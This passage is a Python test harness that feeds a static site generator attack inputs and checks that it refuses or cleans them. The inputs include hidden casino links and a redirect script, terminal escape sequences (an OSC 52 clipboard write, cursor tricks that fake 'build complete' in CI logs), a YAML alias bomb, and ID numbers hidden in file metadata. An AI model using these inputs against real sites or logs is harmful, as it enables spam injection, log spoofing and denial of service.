    "img-no-alt": f'<a href="https://{CASINO}/"><img src="/static/img/favicon.svg" width="32" height="32" alt=""></a>',
    "details-empty-summary": f"<details><summary></summary><p>{_LINK}</p></details>",
    "rp": f"<p><ruby>娱<rp>{_LINK}</rp><rt>yu</rt></ruby></p>",
    "nested-sub": "<p>" + "<sub>" * 15 + _LINK + "</sub>" * 15 + "</p>",
    "nested-small": "<p>" + "<small>" * 15 + _LINK + "</small>" * 15 + "</p>",
    "template": f"<template>{_LINK}</template>",
    "noscript": f"<noscript>{_LINK}</noscript>",
    "hidden-attribute": f"<p hidden>{_LINK}</p>",
    "plain": f"<p>友情链接：{_LINK}。</p>",  # benign: a visible outside link (with gsgen's leaving prompt)
    "details-plain": f"<details><summary>更多链接</summary><p>{_LINK}</p></details>",  # benign
}


def darklink_cases() -> list[Case]:
    cases = [Case("darklink", "body", Vector(name, "darklink", "html", body)) for name, body in DARK_BODIES.items()]
    out = []
    for n, c in enumerate(cases, start=1):
        stem = f"k{n:03d}"
        item = f"content/gzdt/{stem}.md"
        text = markdown_item(f"链接用例{stem}", f"正文开始。\n\n{c.vector.payload}\n\n正文结束。")
        out.append(replace(c, source=item, page=f"gzdt/{stem}.html", files=((item, text),)))
    return out


DARK_THEME = "dark"
DARK_CSS = f"themes/{DARK_THEME}/static/css/site.css"
DARK_JS = f"themes/{DARK_THEME}/static/js/site.js"
DARK_404 = f"themes/{DARK_THEME}/templates/404.html"


def _theme_link(letter: str, around: str = "<p{}>{}</p>", attrs: str = "") -> str:
    return around.format(attrs, f'<a href="https://casino-{letter}.example.com/" data-external>友情链接</a>')


# name: (rule appended to the theme's site.css, line added to its 404 template, line appended to its site.js)
DARK_THEME_CASES = {
    "css-class-display-none": (".tz-a{display:none}", _theme_link("a", attrs=' class="tz-a"'), ""),
    "css-attribute-off-screen": ("a[href*=casino-b]{position:absolute;left:-9999px}", _theme_link("b"), ""),
    "css-class-font-size-0": (".tz-c{font-size:0}", _theme_link("c", attrs=' class="tz-c"'), ""),
    "template-link": ("", _theme_link("d", "<template{}>{}</template>"), ""),
    "noscript-link": ("", _theme_link("e", "<noscript{}>{}</noscript>"), ""),
    "script-location-replace": ("", "", 'location.replace("https://casino-f.example.com/");'),
    "plain": (".tz-g{color:#333}", _theme_link("g", attrs=' class="tz-g"'), ""),  # benign
}


def darktheme_cases() -> list[Case]:
    """A site theme (themes/dark) overriding the default's site.css, site.js and 404 template: each case
    adds a rule, a line or a statement, and is told apart by its host casino-<letter>.example.com."""
    cases = []
    for letter, (name, (css, line, js)) in zip("abcdefg", DARK_THEME_CASES.items(), strict=True):
        source = DARK_CSS if css else DARK_JS if js else DARK_404
        outputs = ("static/js/site.js",) if js else ()
        vector = Vector(name, "darklink", "theme", css or line or js)
        cases.append(
            Case(
                "darktheme",
                "theme",
                vector,
                source=source,
                value=f"casino-{letter}.example.com",
                outputs=outputs,
                also=((DARK_JS, None),) if js else (),
            )
        )
    return cases


def dark_theme_files(cases: list[Case]) -> tuple[dict[str, str], dict[str, int]]:
    """The dark theme carrying `cases`; the line of each case in the file it is named by and, keyed
    "<id> <template>", the template line of its link."""
    from tests.sites import THEME as DEFAULT_THEME

    css = (DEFAULT_THEME / "static/css/site.css").read_text("utf-8").rstrip("\n") + "\n"
    js = (DEFAULT_THEME / "static/js/site.js").read_text("utf-8").rstrip("\n") + "\n"
    lines: list[str] = []
    where: dict[str, int] = {}
    for c in cases:
        rule, line, statement = DARK_THEME_CASES[c.vector.id]
        if rule:
            css += rule + "\n"
            where[c.id] = css.count("\n")
        if statement:
            js += statement + "\n"
            where[c.id] = js.count("\n")
        if line:
            lines.append(line)
    template, numbers = theme_template(lines)
    for c, n in zip([c for c in cases if DARK_THEME_CASES[c.vector.id][1]], numbers, strict=True):
        where.setdefault(c.id, n)
        where[f"{c.id} {DARK_404}"] = n
    # a file is overridden only where a case needs it (a theme's undeclared script would refuse them all)
    files = {DARK_404: template}
    files |= {DARK_CSS: css} if any(DARK_THEME_CASES[c.vector.id][0] for c in cases) else {}
    files |= {DARK_JS: js} if any(DARK_THEME_CASES[c.vector.id][2] for c in cases) else {}
    return files, where


# ---------------------------------------------------------------- what gsgen prints

TERMINAL_CASES = {
    # name: (file, its text, a word of the line that must name it)
    "file-name-cr": ("content/gzdt/a\r构建完成b.md", markdown_item("终端用例一"), "构建完成b.md"),
    "date-osc52": (
        "content/gzdt/t002.md",
        markdown_item("终端用例二", fields={"date": yaml_string("2024-03-05\x1b]52;c;ZWNobyBldmls\x07")}),
        "t002.md",
    ),
    "field-name-esc": (
        "content/gzdt/t003.md",
        markdown_item("终端用例三", fields={yaml_string("x\x1b[2K\x1b[1A构建完成"): "1"}),
        "t003.md",
    ),
    "title-esc": (
        "content/gzdt/t004.md",
        markdown_item(yaml_string("终端用例四\x1b[2K\x1b[1A构建完成"), fields={"keywords": '["\\u009b31m"]'}),
        "t004.md",
    ),
}


def terminal_cases() -> list[Case]:
    """Values and file names with ESC, CR, BEL or CSI: gsgen's printed lines must not carry them raw
    (a CI log can be made to show 构建完成 over an error). Each is built alone."""
    return [
        Case(
            "terminal",
            "printed",
            Vector(name, "terminal", "text", repr(text)),
            source=path,
            value=word,
            files=((path, text),),
        )
        for name, (path, text, word) in TERMINAL_CASES.items()
    ]


# ---------------------------------------------------------------- exhaustion and misplaced errors

# gsgen's bounds (gsgen/limits.py), as numbers: the scanner side never imports gsgen.
MAX_ATTACHMENTS = 200
MAX_YAML_DEPTH = 20
MAX_YAML_ROWS = 10_000
MAX_NESTING = 100
MAX_BLOCK_CHARS = 200_000


def _alias_bomb() -> str:
    """Nine lists of nine references to the list before: 9⁹ strings once the aliases are followed."""
    lines = ['l0: &l0 ["笑", "笑", "笑", "笑", "笑", "笑", "笑", "笑", "笑"]']
    lines += [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, 10)]
    return "\n".join(lines) + "\nkeywords: *l9"


# name: (what it is, the front matter's extra lines or None, the body); ".yaml" cases write the item whole.
EXHAUSTION: dict[str, tuple[str, str | None, str]] = {
    "attachments-2000": (
        f"2,000 attachment entries in one front matter (the bound is {MAX_ATTACHMENTS})",
        # one file, beside the item, listed 2,000 times: only the bound refuses it, not a missing file
        "attachments:\n" + "".join(f"  - {{file: e001.pdf, title: 附件{n}}}\n" for n in range(2_000)),
        "正文。",
    ),
    "div-10000": ("10,000 nested <div>", None, "<div>" * 10_000 + "正文" + "</div>" * 10_000),
    "span-link-10000": (
        "10,000 <span>s around a link",
        None,
        "<p>" + "<span>" * 10_000 + '<a href="https://www.gov.cn/">国务院</a>' + "</span>" * 10_000 + "</p>",
    ),
    "b-unclosed-20000": ("20,000 unclosed <b>", None, "<p>" + "<b>" * 20_000 + "正文</p>"),
    "emphasis-50000": ("50,000 * of nested emphasis", None, "*" * 25_000 + "强调" + "*" * 25_000),
    "paragraph-2mb": ("a paragraph of 2 MB", None, "政府信息公开" * 120_000),
    "yaml-depth-30": (
        f"front matter nested 30 deep (the bound is {MAX_YAML_DEPTH})",
        "extra: " + "[" * 30 + "深" + "]" * 30,  # a field of no type: only the depth bound refuses it
        "正文。",
    ),
    "yaml-alias-bomb": ("a YAML alias bomb (9 levels of 9 references)", _alias_bomb(), "正文。"),
    "font-color-20000": (
        "20,000 <font color=N> paragraphs",
        None,
        "\n\n".join(f"<font color={n}>第{n}段</font>" for n in range(20_000)),
    ),
    "div-300-outside-link": (
        "300 nested <div> around an outside link (libxml2 stops reading at 256)",
        None,
        "<div>" * 300 + f'<a href="https://{CASINO}/">娱乐城</a>' + "</div>" * 300,
    ),
}
# Within every bound, a case that may build (20,000 short paragraphs make a 1 MB page); the rest exceed one.
WITHIN_BOUNDS = {"font-color-20000"}
EXHAUSTION_ROWS = 30_000  # rows of an inline `rows:` data item (the bound is MAX_YAML_ROWS)


def exhaustion_cases() -> list[Case]:
    """Each body or front matter in an item of its own (content/gzdt/eNNN.md), and a data item of
    30,000 inline rows (content/sjfb/eNNN.yaml): each must be refused at its file and line, not on the
    output page, each build within BUILD_SECONDS."""
    cases = []
    for n, (name, (what, fields, body)) in enumerate(EXHAUSTION.items(), start=1):
        stem, item = f"e{n:03d}", f"content/gzdt/e{n:03d}.md"
        head = f"---\ntitle: 资源用例{stem}\ndate: 2024-03-05 09:30\nsource: 测试县人民政府办公室\n"
        text = head + (fields + "\n" if fields else "") + "---\n\n" + body + "\n"
        vector = Vector(name, "exhaust", "text", what)
        files = ((item, text), (f"content/gzdt/{stem}/{stem}.pdf", pdf_file())) if n == 1 else ((item, text),)
        outputs = (f"gzdt/{stem}/",) if n == 1 else ()
        bound = "" if name in WITHIN_BOUNDS else what
        cases.append(
            Case(
                "exhaustion",
                "md",
                vector,
                source=item,
                page=f"gzdt/{stem}.html",
                files=files,
                outputs=outputs,
                over_bound=bound,
            )
        )
    stem = f"e{len(EXHAUSTION) + 1:03d}"
    item = f"content/sjfb/{stem}.yaml"
    rows = "rows:\n  - [年份, 数值]\n" + "".join(f"  - [{2000 + n % 50}年, {n}]\n" for n in range(EXHAUSTION_ROWS))
    text = f"title: 资源用例{stem}\ndate: 2024-03-05 09:30\nsource: 测试县统计局\n" + rows
    vector = Vector(
        f"rows-{EXHAUSTION_ROWS}", "exhaust", "text", f"{EXHAUSTION_ROWS:,} inline rows: (bound {MAX_YAML_ROWS:,})"
    )
    cases.append(
        Case(
            "exhaustion",
            "yaml",
            vector,
            source=item,
            page=f"sjfb/{stem}.html",
            files=(SJFB_COLUMN, (item, text)),
            outputs=(f"sjfb/{stem}.csv", f"sjfb/{stem}.json"),
            over_bound=vector.payload,
        )
    )
    return cases


# ---------------------------------------------------------------- personal data in places not read

ID_NUMBER = citizen_id("50024219850312421")  # 重庆 酉阳, born 1985-03-12
WRONG_CHECK = ID_NUMBER[:17] + ("0" if ID_NUMBER[17] != "0" else "1")  # 18 digits, check digit wrong
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def _docx_part(part: str, kind: str, xml: str, reference: str) -> bytes:
    """A Word file with a part of its own (footnotes, comments) holding `xml`, referred to from the body."""
    rels = f'<Relationship Id="rId{part}" Type="{REL}{kind}" Target="{part}.xml"/>'
    body = f"<w:p><w:r><w:t>正文</w:t></w:r><w:r>{reference}</w:r></w:p>"
    root = "footnotes" if part == "footnotes" else "comments"
    data = docx_file(body, rels, add={f"word/{part}.xml": f'<w:{root} xmlns:w="{W_NS}">{xml}</w:{root}>'.encode()})

    def edit(name: str, data: bytes) -> bytes:
        if name != "[Content_Types].xml":
            return data
        override = f'<Override PartName="/word/{part}.xml" ContentType="{CT}.{part}+xml"/>'
        return data.replace(b"</Types>", override.encode() + b"</Types>")

    return _zip_edit(data, edit)


def _docx_comment(text: str) -> bytes:
    comment = f'<w:comment w:id="0" w:author="审核人"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:comment>'
    return _docx_part("comments", "comments", comment, '<w:commentReference w:id="0"/>')


def _docx_creator(creator: str) -> bytes:
    def edit(name: str, data: bytes) -> bytes:
        return data.replace(b"<dc:creator>python-docx</dc:creator>", f"<dc:creator>{creator}</dc:creator>".encode())

    return _zip_edit(docx_file(), edit)


def _xlsx_comment(text: str) -> bytes:
    import openpyxl
    from openpyxl.comments import Comment

    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"], sheet["B1"], sheet["A2"], sheet["B2"] = "项目", "金额", "补助", 1200
    sheet["B2"].comment = Comment(text, "经办人")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _odt(text: str) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    content = (
        f'<office:document-content xmlns:office="{office}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        f' office:version="1.2"><office:body><office:text><text:p>{text}</text:p></office:text></office:body>'
        "</office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return buffer.getvalue()


def _png_text(keyword: str, text: str) -> bytes:
    data = png_file(4, 4)
    body = keyword.encode("latin-1") + b"\0" + text.encode("latin-1")
    chunk = len(body).to_bytes(4, "big") + b"tEXt" + body + zlib.crc32(b"tEXt" + body).to_bytes(4, "big")
    return data[:33] + chunk + data[33:]  # after IHDR (8 + 25 bytes)


def _jpeg_artist(artist: str) -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x013B] = artist  # Artist
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "JPEG", exif=exif.tobytes())
    return buffer.getvalue()


SAID = f"申请人张三，身份证号{ID_NUMBER}"
# name: (extension, where the number hides, its bytes). Names ending in "plain" must pass.
PERSONAL: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "docx-footnote": (
        "docx",
        "a .docx footnote",
        lambda: _docx_part(
            "footnotes",
            "footnotes",
            f'<w:footnote w:id="1"><w:p><w:r><w:t>{SAID}</w:t></w:r></w:p></w:footnote>',
            '<w:footnoteReference w:id="1"/>',
        ),
    ),
    "docx-comment": ("docx", "a .docx comment", lambda: _docx_comment(SAID)),
    "docx-creator": ("docx", "a .docx core property dc:creator", lambda: _docx_creator(f"张三{ID_NUMBER}")),
    "xlsx-cell-comment": ("xlsx", "an .xlsx cell comment", lambda: _xlsx_comment(SAID)),
    "odt-body": ("odt", "an .odt body", lambda: _odt(SAID)),
    "rtf-body": (
        "rtf",
        "an .rtf body",
        lambda: (
            b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 SimSun;}}\\f0 \\'d5\\'c5\\'c8\\'fd " + ID_NUMBER.encode() + b"\\par}"
        ),
    ),
    "pdf-info-author": (
        "pdf",
        "a PDF's /Info /Author",
        lambda: pdf_file(info=f"<< /Author (Zhang San {ID_NUMBER}) /Title (Notice) >>"),
    ),
    "pdf-annotation": (
        "pdf",
        "a PDF annotation's /Contents",
        lambda: pdf_file(
            page="/Annots [5 0 R]",
            extra=(f"<< /Type /Annot /Subtype /Text /Rect [72 700 90 718] /Contents (ID {ID_NUMBER}) >>",),
        ),
    ),
    "png-text-chunk": ("png", "a PNG tEXt chunk", lambda: _png_text("Author", f"Zhang San {ID_NUMBER}")),
    "jpeg-exif-artist": ("jpg", "a JPEG's EXIF Artist", lambda: _jpeg_artist(f"Zhang San {ID_NUMBER}")),
    "zip-member-name": (
        "zip",
        "a ZIP member's name",
        lambda: zip_file({f"申请材料/张三{ID_NUMBER}.txt": "申请材料。".encode()}),
    ),
    "docx-plain": ("docx", "a Word file with no ID number", lambda: _docx_comment("请核对金额。")),
    "docx-wrong-check-plain": (
        "docx",
        "a comment with 18 digits whose check digit is wrong",
        lambda: _docx_comment(f"档案编号{WRONG_CHECK}"),
    ),
}


def personal_cases() -> list[Case]:
    """Each file attached to an item of its own (`attached_case`, pNNN). Refused (PRIVACY, naming the
    item or the file) or published without the number (pictures stripped)."""
    cases = []
    for n, (name, (ext, what, make)) in enumerate(PERSONAL.items(), start=1):
        place, _, rest = name.partition("-")
        cases.append(attached_case("personal", place, Vector(rest, "personal", "file", what), f"p{n:03d}", ext, make()))
    return cases


ENTRIES: dict[str, Callable[[], list[Case]]] = {
    "body": body_cases,
    "front-matter": front_matter_cases,
    "structured": structured_cases,
    "config": config_cases,
    "theme": theme_cases,
    # issue 28: what else a portal publishes
    "attachment": attachment_cases,
    "csv": csv_cases,
    "xml": xml_cases,
    "future": future_cases,
    "darklink": darklink_cases,
    "darktheme": darktheme_cases,
    "terminal": terminal_cases,
    "exhaustion": exhaustion_cases,
    "personal": personal_cases,
}
NEW_ENTRIES = ("attachment", "csv", "xml", "future", "darklink", "darktheme", "terminal", "exhaustion", "personal")


def all_cases(entries: Iterable[str] = ENTRIES) -> list[Case]:
    return [c for e in entries for c in ENTRIES[e]()]


# ================================================================ sites that carry the cases


def base_files() -> dict[str, str]:
    from tests.sites import minimal_site

    files = minimal_site()
    # a column page per 100 items, not per 3: hundreds of attack items stay a few pages
    files["config.yaml"] = files["config.yaml"].replace("paginate: 3", "paginate: 100")
    return files


def _set_site_field(config: str, key: str, value: str) -> str:
    pattern = re.compile(rf"^  {key}: .*$", re.MULTILINE)
    line = f"  {key}: {value}"
    if pattern.search(config):
        return pattern.sub(lambda _: line, config)
    return config.replace("site:\n", f"site:\n{line}\n", 1)


def _list_title(case: Case) -> str:
    """A title no other entry shares, by which the entry's line is found."""
    return "攻击" + hashlib.sha256(case.id.encode()).hexdigest()[:12]


def _line_of(text: str, prefix: str) -> int:
    return next(n for n, line in enumerate(text.split("\n"), start=1) if line.startswith(prefix))


def site_files(cases: list[Case]) -> tuple[dict[str, str | bytes], list[Case]]:
    """The site carrying `cases`, and the cases with their line filled in where a file holds several
    (config.yaml, the theme's template)."""
    files: dict[str, str | bytes] = dict(base_files())
    config = str(files["config.yaml"])
    lists: dict[str, list[str]] = {}
    for c in cases:
        files.update(c.files)
        if c.entry in ("body", "front-matter", "structured"):
            files[c.source] = c.text
        elif c.placement in SITE_URL_FIELDS:
            config = _set_site_field(config, c.placement, yaml_string(c.vector.payload))
        elif c.placement == "column-url":
            name = posixpath.basename(posixpath.dirname(c.source))
            files[c.source] = f"name: 外部系统{name}\ntype: 其他\nurl: {yaml_string(c.vector.payload)}\n"
            config = config.replace("channels: [", f"channels: [{name}, ", 1)
        elif c.placement == "colors.primary":
            config += f"colors: {{primary: {yaml_string(c.vector.payload)}}}\n"
        elif c.placement in CONFIG_LISTS:
            _kind, key, entry = CONFIG_LISTS[c.placement]
            lists.setdefault(key, []).append(f"  - {entry(_list_title(c), yaml_string(c.vector.payload))}")
    for key, entries in lists.items():
        config += f"{key}:\n" + "\n".join(entries) + "\n"
    theme = [c for c in cases if c.entry == "theme"]
    if theme:
        config += f"theme: {THEME}\n"
        files[THEME_404], lines = theme_template([c.text for c in theme])
    dark = [c for c in cases if c.entry == "darktheme"]
    dark_lines: dict[str, int] = {}
    if dark:
        config += f"theme: {DARK_THEME}\n"
        theme_files, dark_lines = dark_theme_files(dark)
        files |= theme_files
    files["config.yaml"] = config
    placed = []
    for c in cases:
        if c.id in dark_lines:
            # a stylesheet's case is also named by the template line of the link it hides
            around = dark_lines.get(f"{c.id} {DARK_404}")
            extra = ((DARK_404, around),) if c.source != DARK_404 and around else ()
            c = replace(c, line=dark_lines[c.id], also=c.also + extra)
        elif c.placement in CONFIG_LISTS:
            title = _list_title(c)
            c = replace(c, line=next(n for n, line in enumerate(config.split("\n"), start=1) if title in line))
        elif c.source == "config.yaml":
            c = replace(c, line=_line_of(config, "colors:" if c.placement == "colors.primary" else f"  {c.placement}:"))
        elif c.entry == "theme":
            c = replace(c, line=lines[theme.index(c)])
        placed.append(c)
    return files, placed


def theme_template(lines: list[str]) -> tuple[str, list[int]]:
    """The default theme's 404 page with `lines` added to its main block, and the line of each."""
    from tests.sites import THEME as DEFAULT_THEME

    default = (DEFAULT_THEME / "templates" / "404.html").read_text("utf-8")
    cut = default.rfind("{% endblock %}")
    head, tail = (default[:cut], default[cut:]) if cut >= 0 else (default, "")
    head = head if head.endswith("\n") else head + "\n"
    first = head.count("\n") + 2  # the line after {% raw %}
    # {% raw %}: the vectors are literal HTML, never Jinja, whatever braces they hold
    text = head + "{% raw %}\n" + "".join(f"{line}\n" for line in lines) + "{% endraw %}\n" + tail
    return text, [first + n for n in range(len(lines))]


# ================================================================ running gsgen on them

ERROR_LINE = re.compile(r"^(?P<file>.+?)(?::(?P<line>\d+))?: error\[(?P<rule>[^\]]+)\] ")


class BuildTimeout(BaseException):
    """Raised in a build that ran past BUILD_SECONDS: a BaseException, so that no `except Exception` in
    gsgen takes it for a failure of its own."""


@contextlib.contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """BuildTimeout in the block after `seconds` (in the main thread, where signals are delivered)."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return

    def stop(_signum: int, _frame: object) -> None:
        raise BuildTimeout

    previous = signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@dataclass
class Build:
    code: int
    text: str
    out: Path
    timed_out: bool = False

    @property
    def tail(self) -> list[str]:
        """The last lines said: on a crash, gsgen's one-line report of it."""
        return [line for line in self.text.splitlines() if line.strip()][-3:] or [f"exit {self.code}"]

    @property
    def crashed(self) -> bool:
        return self.code not in (0, 1) or "Traceback" in self.text or "内部错误" in self.text

    def errors(self, site: Path) -> list[tuple[str, int, str]]:
        """(file relative to the site, line or 0, the message line) of each error."""
        found = []
        for raw in self.text.splitlines():
            m = ERROR_LINE.match(raw.strip())
            if m:
                file = m["file"]
                for prefix in (f"{site}/", f"{site.resolve()}/"):
                    file = file.removeprefix(prefix)
                found.append((file, int(m["line"] or 0), raw.strip()))
        return found


class Workspace:
    """A site folder rewritten for each build (gsgen's cache kept) and its output folder."""

    def __init__(self, root: Path) -> None:
        self.site = root / "site"
        self.out = root / "public"

    def build(self, files: dict[str, str | bytes]) -> Build:
        from tests.conftest import NOW, gsgen_here
        from tests.sites import write_site

        for old in ("content", "themes", "config.yaml"):
            target = self.site / old
            if target.is_dir():
                shutil.rmtree(target)
            elif target.exists():
                target.unlink()
        written: dict[str, str | bytes] = dict(files)
        write_site(self.site, written)
        started = time.monotonic()
        try:
            with time_limit(BUILD_SECONDS):
                run = gsgen_here("build", self.site, "--now", NOW, "-o", self.out, "-j", "1")
        except BuildTimeout:
            _log(f"build {self.site.parent.name} stopped after {BUILD_SECONDS} s")
            return Build(-1, f"stopped after {BUILD_SECONDS} s", self.out, timed_out=True)
        _log(f"build {self.site.parent.name} exit {run.code} {time.monotonic() - started:.2f}s")
        return Build(run.code, run.text, self.out)


def _log(message: str) -> None:
    """Where the time goes, with GSGEN_ATTACKS_LOG=1: each build, and why a group was split."""
    if os.environ.get("GSGEN_ATTACKS_LOG"):
        print(message, file=sys.stderr)


class Settler:
    """Gives every case of a group an outcome with few builds: all cases at once, then again without
    those an error named, and so on; a group is split in two only when a crash, an error or a finding
    cannot be tied to one case."""

    def __init__(self, work: Workspace, baseline: set[str]) -> None:
        self.work = work
        self.baseline = set(baseline)  # messages the site shows without any vector
        self.theme_offset: int | None = None  # output line of 404.html minus template line

    def settle(self, cases: list[Case]) -> dict[str, Outcome]:
        results: dict[str, Outcome] = {}
        pending = list(cases)
        while pending:
            files, placed = site_files(pending)
            build = self.work.build(files)
            if build.timed_out:
                if len(pending) == 1:
                    return results | {pending[0].id: Outcome("timeout", [build.text])}
                return results | self._halves(pending)
            if build.crashed:
                if len(pending) == 1:
                    return results | {pending[0].id: Outcome("crash", build.tail)}
                crashed = self._probe(build, pending)
                if not crashed:
                    return results | self._halves(pending)
                results |= crashed
                pending = [c for c in pending if c.id not in crashed]
                continue
            if build.code == 1:
                blamed = self._blame(build, placed)
                if not blamed and len(pending) > 1:
                    _log(f"split {len(pending)} cases: errors of no one case: {build.errors(self.work.site)[:2]}")
                    return results | self._halves(pending)
                if not blamed:
                    said = [e[2] for e in build.errors(self.work.site)] or build.text.splitlines()[-3:]
                    return results | {pending[0].id: Outcome("unclear", said)}
                for case_id, (clear, said) in blamed.items():
                    results[case_id] = Outcome("refused" if clear else "unclear", said)
                pending = [c for c in pending if c.id not in blamed]
                continue
            owned: dict[str, list[str]] = defaultdict(list)
            stray: list[str] = []
            for f in scan_folder(build.out, expect=expectations(placed)):
                if f.message not in self.baseline:
                    owner = self._owner(f, placed)
                    (owned[owner] if owner else stray).append(str(f))
            if stray and len(pending) > 1:
                _log(f"split {len(pending)} cases: findings of no one case: {stray[:2]}")
                return results | self._halves(pending)
            owned[pending[0].id] += stray
            return results | {
                c.id: Outcome("unsafe", owned[c.id]) if owned[c.id] else Outcome("clean") for c in pending
            }
        return results

    def _probe(self, build: Build, pending: list[Case]) -> dict[str, Outcome]:
        """Build alone the cases whose payload the crash message quotes (gsgen's message often names
        the value it choked on): the crashing ones found in a build or two instead of a bisection."""
        said = build.tail[-1]
        found = {}
        for case in suspects(said, pending):
            alone = self.work.build(site_files([case])[0])
            if alone.crashed:
                found[case.id] = Outcome("crash", alone.tail)
        return found

    def _halves(self, cases: list[Case]) -> dict[str, Outcome]:
        middle = len(cases) // 2
        return self.settle(cases[:middle]) | self.settle(cases[middle:])

    def _theme_case(self, placed: list[Case], file: str, line: int) -> Case | None:
        if file != "404.html" or self.theme_offset is None:
            return None
        return next((c for c in placed if c.entry == "theme" and c.line == line - self.theme_offset), None)

    def _blame(self, build: Build, placed: list[Case]) -> dict[str, tuple[bool, list[str]]]:
        """Case id → (whether an error names its source file and line, the errors about it)."""
        blamed: dict[str, tuple[bool, list[str]]] = {}
        by_source = {place: c for c in placed for place in c.also} | {(c.source, c.line): c for c in placed}
        by_page = {c.page: c for c in placed if c.page}
        for file, line, said in build.errors(self.work.site):
            case = by_source.get((file, line)) or by_source.get((file, None))
            # an error at the source's line, or naming the very file that carries the vector (an attachment)
            clear = case is not None and (line > 0 or (file, None) in case.also)
            case = case or by_page.get(file) or self._theme_case(placed, file, line) or _by_value(said, placed)
            if case is not None:
                was_clear, lines = blamed.get(case.id, (False, []))
                blamed[case.id] = (was_clear or clear, [*lines, said])
        return blamed

    def _owner(self, finding: Finding, placed: list[Case]) -> str | None:
        case = next((c for c in placed if c.page == finding.file or owns(c, finding.file)), None)
        case = case or self._theme_case(placed, finding.file, finding.line)
        if case is not None:
            return case.id
        case = _by_value(finding.value, placed, exact=True)
        return case.id if case else None


def owns(case: Case, file: str) -> bool:
    return any(file == o or (o.endswith("/") and file.startswith(o)) for o in case.outputs)


def expectations(cases: Iterable[Case]) -> Expect:
    """What the scanner is told of these cases' sources: held pages, CSV rows and numbers."""
    cases = list(cases)
    return Expect(
        held=frozenset(c.held for c in cases if c.held),
        csv_rows={o: c.csv_rows for c in cases if c.csv_rows for o in c.outputs if o.endswith(".csv")},
        csv_numbers={o: c.csv_numbers for c in cases if c.csv_numbers for o in c.outputs if o.endswith(".csv")},
    )


def _by_value(text: str, placed: list[Case], exact: bool = False) -> Case | None:
    """The config case whose value `text` shows: the one equal to it, else the longest it contains;
    compared as the page shows them (controls and spaces dropped, case folded)."""
    text = comparable(text)
    matches = [c for c in placed if c.value and text and comparable(c.value) in text]
    same = [c for c in matches if exact and comparable(c.value or "") == text]
    return max(same or matches, key=lambda c: len(comparable(c.value or ""))) if matches else None


def comparable(value: str) -> str:
    """A URL as it may come back from a page or a message: NUL made U+FFFD, C0 controls and spaces
    dropped, lower case. Cases in one build never share this form (`_config_groups`)."""
    return re.sub(r"[\x00-\x20\x7f]", "", value.replace("\0", "\ufffd")).lower()


def suspects(message: str, cases: list[Case], most: int = 6) -> list[Case]:
    """The cases sharing the longest run of characters (at least 10) with `message`."""
    best, found = 9, []
    for case in cases:
        payload, longest = case.vector.payload, 0
        for start in range(len(payload)):
            end = start + longest + 1
            while end <= len(payload) and payload[start:end] in message:
                longest, end = end - start, end + 1
        if longest > best:
            best, found = longest, [case]
        elif longest == best and found:
            found.append(case)
    return found[:most]


Job = tuple[str, list[Case], set[str]]


def _run_job(job: Job) -> dict[str, Outcome]:
    """One group of cases, in a folder of its own (run in a worker process)."""
    entry, cases, baseline = job
    root = Path(tempfile.mkdtemp(prefix=f"gsgen-attacks-{entry}-"))
    try:
        if entry == "terminal":
            return {c.id: printed_outcome(Workspace(root), c) for c in cases}
        settler = Settler(Workspace(root), baseline)
        if entry == "theme":
            _calibrate(settler, cases)
        return unbounded(settler.settle(cases), cases)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def unbounded(outcomes: dict[str, Outcome], cases: list[Case]) -> dict[str, Outcome]:
    """A case over one of gsgen's bounds that built is unsafe: the bound is what keeps a build's time and
    memory in proportion to its input (issue 28: 400,000 attachments built in 109 s at 5.3 GB)."""
    over = {c.id: c.over_bound for c in cases if c.over_bound}
    return {
        case_id: Outcome("unsafe", [f"built although over gsgen's bound: {over[case_id]}", *outcome.details])
        if outcome.status == "clean" and case_id in over
        else outcome
        for case_id, outcome in outcomes.items()
    }


def printed_outcome(work: Workspace, case: Case) -> Outcome:
    """A terminal case, built alone and judged by what gsgen prints: raw control characters in any line
    are unsafe, whether the build failed or not."""
    build = work.build(site_files([case])[0])
    if build.crashed:
        return Outcome("crash", build.tail)
    raw = terminal_problems(build.text)
    if raw:
        return Outcome("unsafe", raw)
    if build.code == 0:
        return Outcome("clean")
    said = [line for line in build.text.split("\n") if "error[" in line]
    named = [line for line in said if _printable(case.source) in _printable(line) or (case.value or "\0") in line]
    return Outcome("refused", named) if named else Outcome("unclear", said or build.tail)


def _printable(text: str) -> str:
    """A file name as it may be printed escaped: control characters and their escapes dropped."""
    return re.sub(r"\\(?:[abefnrtv]|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})|[\x00-\x1f\x7f-\x9f]|\\", "", text)


def _calibrate(settler: Settler, cases: list[Case]) -> None:
    """Learn which line of the output 404.html each template line becomes, by building the template
    with a harmless marker on each vector's line; what the scanner finds there is the theme's baseline."""
